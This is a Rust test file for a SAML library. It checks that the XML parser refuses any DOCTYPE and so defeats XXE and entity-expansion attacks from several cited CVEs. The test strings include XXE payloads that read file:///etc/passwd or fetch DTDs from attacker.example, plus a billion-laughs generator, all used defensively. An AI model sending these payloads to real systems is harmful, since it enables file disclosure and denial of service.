//! A12: DOCTYPE, XXE and entity expansion. Santuario CVE-2013-4517 (DTD DoS), xmlsec1
//! CVE-2017-1000061 (XXE in the default loader), Shibboleth CVE-2018-0486 (entities in signed
//! attribute data read differently by c14n and the consumer), GitHub Enterprise Server
//! CVE-2025-23369 (libxml2 entity handling moved the root XPath saw), SAMLRaider's XXE payloads,
//! ruby-saml `attackxee.xml` (stored as `saml/attack/billion-laughs.xml`).
//!
//! Defence: the parser's own tokenizer refuses any DOCTYPE at its `<!DOCTYPE` (`XmlErrorKind::Doctype`,
//! in `xml::parse`), so no entity is ever defined; only the five predefined
//! entities and character references exist. Every test checks that the error points at the
//! DOCTYPE itself: nothing after it was read, let alone expanded or fetched. Through
//! `validate`, `receive_post` and `receive_redirect` the kind is `malformed_xml`.

use saml_core::binding;
use saml_core::saml::SamlError;
use saml_core::saml::authn::RequestOptions;
use saml_core::saml::idp::SignTarget;
use saml_core::saml::replay::InMemoryStore;
use saml_core::xml::XmlErrorKind;

use crate::helpers::*;

/// Asserts a `Doctype` error positioned at byte `at` (`line`, `column`).
#[track_caller]
fn doctype_at(err: &SamlError, at: usize, line: u32, column: u32) {
    assert_kind(err, "malformed_xml");
    let x = xml_error(err);
    assert_eq!(x.kind, XmlErrorKind::Doctype, "{x}");
    assert_eq!(
        (x.position.offset, x.position.line, x.position.column),
        (at, line, column),
        "{x}"
    );
}

/// An IdP-signed Response behind an XML declaration and `doctype`, with the NameID text
/// replaced by `name_id` (an entity reference the DOCTYPE would define).
fn response_with(doctype: &str, name_id: &str) -> String {
    let signed = issue(SignTarget::Assertion);
    format!(
        "<?xml version=\"1.0\"?>\n{doctype}\n{}",
        with_name_id(&signed, name_id)
    )
}

/// The DOCTYPE's byte offset in [`response_with`]'s output: line 2, column 1.
const AT: usize = "<?xml version=\"1.0\"?>\n".len();

/// Internal entities (the Shibboleth CVE-2018-0486 shape: the entity sits in signed data).
#[test]
fn internal_entity() {
    let xml = response_with(
        "<!DOCTYPE samlp:Response [<!ENTITY name \"admin@org1.example\">]>",
        "&name;",
    );
    doctype_at(&rejected(&sp(), &xml), AT, 2, 1);
}

/// xmlsec1 CVE-2017-1000061: an external entity reading a local file, and one fetching a URL.
#[test]
fn external_entities() {
    for system in ["file:///etc/passwd", "http://attacker.example/xxe"] {
        let xml = response_with(
            &format!("<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM \"{system}\">]>"),
            "&xxe;",
        );
        doctype_at(&rejected(&sp(), &xml), AT, 2, 1);
    }
}

/// External parameter entities (out-of-band XXE), and an external DTD subset.
#[test]
fn parameter_entities_and_external_subset() {
    for doctype in [
        "<!DOCTYPE samlp:Response [<!ENTITY % dtd SYSTEM \"http://attacker.example/x.dtd\"> %dtd;]>",
        "<!DOCTYPE samlp:Response SYSTEM \"http://attacker.example/saml.dtd\">",
        "<!DOCTYPE samlp:Response PUBLIC \"-//X//Y\" \"file:///etc/passwd\">",
    ] {
        let xml = response_with(doctype, ALICE);
        doctype_at(&rejected(&sp(), &xml), AT, 2, 1);
    }
}

/// Santuario CVE-2013-4517, ruby-saml `attackxee.xml`: billion laughs, stored vector.
#[test]
fn billion_laughs() {
    let xml = vector("saml/attack/billion-laughs.xml");
    let at = xml.find("<!DOCTYPE").expect("doctype");
    doctype_at(&rejected(&sp(), &xml), at, 2, 1);
}

/// Billion laughs wrapped around a real signed Response, the entity used in the NameID.
#[test]
fn billion_laughs_in_a_signed_response() {
    let mut doctype = String::from("<!DOCTYPE samlp:Response [<!ENTITY l0 \"lol\">");
    for i in 1..=9 {
        doctype.push_str(&format!("<!ENTITY l{i} \""));
        for _ in 0..10 {
            doctype.push_str(&format!("&l{};", i - 1));
        }
        doctype.push_str("\">");
    }
    doctype.push_str("]>");
    let xml = response_with(&doctype, "&l9;");
    doctype_at(&rejected(&sp(), &xml), AT, 2, 1);
}

/// The IdP side: a DOCTYPE in an AuthnRequest, by HTTP-POST and by HTTP-Redirect.
#[test]
fn doctype_in_authn_requests() {
    let requests = InMemoryStore::default();
    let request = sp()
        .authn_request(now(), &RequestOptions::default(), &requests)
        .expect("request");
    let doctype = "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
    let xml = format!("{doctype}{}", request.xml);
    let err = idp(SignTarget::Both)
        .receive_post(&sp_peer(), xml.as_bytes(), None, now())
        .expect_err("DOCTYPE");
    doctype_at(&err, 0, 1, 1);

    let query = format!(
        "{SSO_URL}?SAMLRequest={}",
        binding::encode_redirect(xml.as_bytes())
    );
    let err = idp(SignTarget::Both)
        .receive_redirect(&sp_peer(), &query, now())
        .expect_err("DOCTYPE");
    doctype_at(&err, 0, 1, 1);
}
